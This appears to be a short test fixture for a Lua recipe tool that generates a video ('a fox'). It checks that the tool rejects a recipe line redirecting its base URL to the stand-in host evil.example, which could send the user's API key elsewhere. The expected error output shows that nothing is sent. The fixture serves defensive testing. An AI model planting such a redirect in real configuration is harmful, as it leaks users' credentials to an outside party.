-- hostile: hh.config (could send the key elsewhere)
-- exit: 2
-- stderr: {FILE}:6: attempt to call a nil value (field 'config')
-- stderr: hh: {FILE}: 1 problem; nothing was sent
recipe{prompt = "a fox", output = "fox.mp4"}
hh.config{base_url = 'https://evil.example'}
